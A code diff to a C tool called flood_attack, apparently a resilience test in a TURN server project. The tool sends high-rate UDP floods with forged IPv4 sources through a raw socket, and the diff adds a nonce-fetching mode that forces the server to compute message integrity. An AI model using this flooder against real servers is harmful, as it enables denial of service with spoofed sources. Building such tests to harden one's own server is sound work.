@@ -1,6 +1,11 @@
-// An attacker: datagrams to a TURN server over UDP, each from an IPv4 source that was made up.
+// An attacker: datagrams to a TURN server over UDP, from IPv4 sources that were made up.
 //
-//   flood_attack ADDRESS:PORT KIND THOUSANDS      of KIND a second: binding, allocate, garbage, integrity, mixed
+//   flood_attack ADDRESS:PORT KIND THOUSANDS      of KIND a second
+//
+//   binding, allocate, garbage    what they are
+//   integrity                     an Allocate with a nonce and an integrity, both made up
+//   mixed                         each of those
+//   password                      the same from a true source, with a nonce that the server gave: it has to compute the integrity
 //
 // They leave at an even pace through a raw socket (IP_HDRINCL), until SIGTERM or ATTACK_MAX. Where the machine cannot keep
 // the pace, what was missed is not made up for at once; the last line says how many left: {"sent":600000,"per_s":119874}
@@ -17,6 +22,7 @@
 #include "base/addr.h"
 #include "net/clock.h"
 #include "net/sockaddr.h"
+#include "net/socket.h"
 #include "stun/attr.h"
 #include "stun/auth.h"
 #include "turn/msg.h"
@@ -27,9 +33,19 @@
 #define HEADERS (sizeof(struct iphdr) + sizeof(struct udphdr))
 #define ATTACK_MAX YODEL_SECONDS(120) // Whoever is forgotten ends by himself.
 #define DEBT_MAX YODEL_MS(5)          // What may be made up for.
-#define KINDS 4
 
-static const char *const kinds[KINDS] = {"binding", "allocate", "garbage", "integrity"};
+#define ANSWER_MAX_S 5
+
+enum kind { BINDING, ALLOCATE, GARBAGE, INTEGRITY, MIXED, PASSWORD, KINDS };
+static const char *const names[KINDS] = {
+    "binding", "allocate", "garbage", "integrity", "mixed", "password"};
+
+// Where they come from, and the nonce they carry.
+struct origin {
+    struct yodel_addr addr; // Family NONE: made up.
+    uint8_t nonce[64];
+    size_t nonce_len;
+};
 
 struct packet {
     uint8_t bytes[HEADERS + PAYLOAD_MAX];
@@ -64,57 +80,58 @@ static void fill(uint8_t *bytes, size_t len)
 
 // ---- what they say
 
-static void put_integrity(struct writer *w)
+static void put_integrity(struct writer *w, const struct origin *origin)
 {
-    static const uint8_t nonce[32] = "a nonce that was never given";
     static const uint8_t key[16] = "not the password";
 
     stun_msg_put_attr(w, STUN_USERNAME, bytes_of_text("flood"));
     stun_msg_put_attr(w, STUN_REALM, bytes_of_text("yodel"));
-    stun_msg_put_attr(w, STUN_NONCE, bytes_of(nonce, sizeof nonce));
+    stun_msg_put_attr(w, STUN_NONCE, bytes_of(origin->nonce, origin->nonce_len));
     stun_auth_put_sha1(w, bytes_of(key, sizeof key));
 }
 
-static size_t write_payload(struct span room, size_t kind)
+static size_t write_payload(struct span room, enum kind kind, const struct origin *origin)
 {
     uint8_t id[STUN_ID_SIZE];
     struct writer w = writer_of(room);
 
     fill(id, sizeof id);
-    if (kind == 2) {
+    if (kind == GARBAGE) {
         size_t len = 20 + random_u64() % 200;
         fill(room.ptr, len);
         return len;
     }
-    stun_msg_put_header(&w, kind == 0 ? STUN_BINDING : TURN_ALLOCATE, id);
-    if (kind > 0) {
+    stun_msg_put_header(&w, kind == BINDING ? STUN_BINDING : TURN_ALLOCATE, id);
+    if (kind != BINDING) {
         stun_attr_put_u32(&w, TURN_ATTR_REQUESTED_TRANSPORT, (uint32_t)TURN_PROTOCOL_UDP << 24);
     }
-    if (kind == 3) {
-        put_integrity(&w);
+    if (kind == INTEGRITY || kind == PASSWORD) {
+        put_integrity(&w, origin);
     }
     return w.len;
 }
 
-static void write_packet(struct packet *packet, const struct yodel_addr *server, size_t kind)
+static void write_packet(struct packet *packet, const struct yodel_addr *server, enum kind kind,
+    const struct origin *origin)
 {
     struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
-    size_t len =
-        write_payload(span_of(packet->bytes + HEADERS, sizeof packet->bytes - HEADERS), kind);
+    struct span room = span_of(packet->bytes + HEADERS, sizeof packet->bytes - HEADERS);
+    size_t len = write_payload(room, kind, origin);
     // RFC 768: a checksum of zero is none.
-    struct udphdr udp = {
-        .dest = htons(server->port), .len = htons((uint16_t)(sizeof(struct udphdr) + len))};
+    struct udphdr udp = {.source = htons(origin->addr.port),
+        .dest = htons(server->port),
+        .len = htons((uint16_t)(sizeof(struct udphdr) + len))};
 
     packet->len = HEADERS + len;
+    memcpy(&ip.saddr, origin->addr.ip, 4);
     memcpy(&ip.daddr, server->ip, 4);
     memcpy(packet->bytes, &ip, sizeof ip);
     memcpy(packet->bytes + sizeof ip, &udp, sizeof udp);
 }
 
-// Another source, port and transaction, which begins behind the type, the length and the cookie.
-static void vary(struct packet *packet)
+static void vary_source(struct packet *packet)
 {
-    uint64_t chance = random_u64(), id = random_u64();
+    uint64_t chance = random_u64();
     uint16_t port = htons((uint16_t)(1024 + chance % 64000));
     uint8_t first = (uint8_t)(1 + (chance >> 16) % 223);
     uint8_t source[4] = {first == 127 || first == 198 || first == 203 ? 1 : first,
@@ -122,14 +139,60 @@ static void vary(struct packet *packet)
 
     memcpy(packet->bytes + 12, source, sizeof source);
     memcpy(packet->bytes + sizeof(struct iphdr), &port, sizeof port);
+}
+
+// Another transaction, which begins behind the type, the length and the cookie, and another source.
+static void vary(struct packet *packet, const struct origin *origin)
+{
+    uint64_t id = random_u64();
+
     memcpy(packet->bytes + HEADERS + 8, &id, sizeof id);
+    if (origin->addr.family == YODEL_ADDR_NONE) {
+        vary_source(packet);
+    }
+}
+
+// ---- a source that is true
+
+static bool read_nonce(struct origin *origin, struct bytes answer)
+{
+    struct stun_msg msg;
+    const struct stun_attr *nonce =
+        stun_msg_parse(&msg, answer) == YODEL_OK ? stun_msg_find(&msg, STUN_NONCE) : NULL;
+
+    if (!nonce || nonce->value.len > sizeof origin->nonce) {
+        return false;
+    }
+    memcpy(origin->nonce, nonce->value.ptr, nonce->value.len);
+    origin->nonce_len = nonce->value.len;
+    return true;
+}
+
+// The socket stays open, or answers would be refused by ICMP.
+static bool ask_for_nonce(struct origin *origin, const struct yodel_addr *server)
+{
+    uint8_t bytes[PAYLOAD_MAX];
+    struct sockaddr_storage to;
+    socklen_t to_len = sockaddr_write(&to, server);
+    const struct timeval wait = {.tv_sec = ANSWER_MAX_S};
+    int fd = socket(AF_INET, SOCK_DGRAM, 0);
+
+    if (fd < 0 || connect(fd, (struct sockaddr *)&to, to_len) != 0) {
+        return false;
+    }
+    (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
+    size_t len = write_payload(span_of(bytes, sizeof bytes), ALLOCATE, origin);
+    ssize_t got = send(fd, bytes, len, 0) < 0 ? -1 : recv(fd, bytes, sizeof bytes, 0);
+    origin->addr = socket_local(fd);
+    return got > 0 && read_nonce(origin, bytes_of(bytes, (size_t)got));
 }
 
 // ---- sending
 
 static size_t send_some(
-    int fd, const struct yodel_addr *server, struct packet *packets, size_t first)
+    int fd, const struct yodel_addr *server, struct packet *packets, const struct origin *origin)
 {
+    size_t first = (size_t)(random_u64() % TEMPLATES);
     struct sockaddr_storage to;
     socklen_t to_len = sockaddr_write(&to, server);
     struct iovec parts[BATCH];
@@ -137,7 +200,7 @@ static size_t send_some(
 
     for (size_t i = 0; i < BATCH; i++) {
         struct packet *packet = &packets[(first + i) % TEMPLATES];
-        vary(packet);
+        vary(packet, origin);
         parts[i] = (struct iovec){packet->bytes, packet->len};
         messages[i].msg_hdr = (struct msghdr){
             .msg_name = &to, .msg_namelen = to_len, .msg_iov = &parts[i], .msg_iovlen = 1};
@@ -146,8 +209,8 @@ static size_t send_some(
     return sent > 0 ? (size_t)sent : 0;
 }
 
-static void run(
-    int fd, const struct yodel_addr *server, struct packet *packets, uint64_t per_second)
+static void run(int fd, const struct yodel_addr *server, struct packet *packets,
+    const struct origin *origin, uint64_t per_second)
 {
     const yodel_duration step = YODEL_SECONDS((uint64_t)BATCH) / per_second;
     const struct timespec nap = {.tv_nsec = 100000};
@@ -161,28 +224,30 @@ static void run(
         }
         due = time_since(now, due) > DEBT_MAX ? now - DEBT_MAX : due;
         due += step;
-        sent += send_some(fd, server, packets, (size_t)(random_u64() % TEMPLATES));
+        sent += send_some(fd, server, packets, origin);
     }
     yodel_duration lasted = time_since(now, start);
     printf("{\"sent\":%" PRIu64 ",\"per_s\":%" PRIu64 "}\n", sent,
         lasted > 0 ? sent * 1000000 / lasted : 0);
 }
 
-static bool find_kind(const char *text, size_t *kind)
+static bool find_kind(const char *text, enum kind *kind)
 {
-    for (*kind = 0; *kind < KINDS; (*kind)++) {
-        if (strcmp(text, kinds[*kind]) == 0) {
+    for (size_t i = 0; i < KINDS; i++) {
+        if (strcmp(text, names[i]) == 0) {
+            *kind = (enum kind)i;
             return true;
         }
     }
-    return strcmp(text, "mixed") == 0; // KINDS: each in its turn.
+    return false;
 }
 
 int main(int argc, char **argv)
 {
     static struct packet packets[TEMPLATES];
+    struct origin origin = {.nonce = "a nonce that was never given", .nonce_len = 32};
     struct yodel_addr server;
-    size_t kind;
+    enum kind kind;
 
     if (argc != 4 || addr_parse(&server, bytes_of_text(argv[1])) != YODEL_OK ||
         !find_kind(argv[2], &kind) || atoi(argv[3]) <= 0) {
@@ -190,14 +255,14 @@ int main(int argc, char **argv)
         return 2;
     }
     int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
-    if (fd < 0) {
+    if (fd < 0 || (kind == PASSWORD && !ask_for_nonce(&origin, &server))) {
         perror("flood_attack");
         return 1;
     }
     (void)signal(SIGTERM, on_signal);
     for (size_t i = 0; i < TEMPLATES; i++) {
-        write_packet(&packets[i], &server, kind == KINDS ? i % KINDS : kind);
+        write_packet(&packets[i], &server, kind == MIXED ? (enum kind)(i % MIXED) : kind, &origin);
     }
-    run(fd, &server, packets, (uint64_t)atoi(argv[3]) * 1000);
+    run(fd, &server, packets, &origin, (uint64_t)atoi(argv[3]) * 1000);
     return 0;
 }
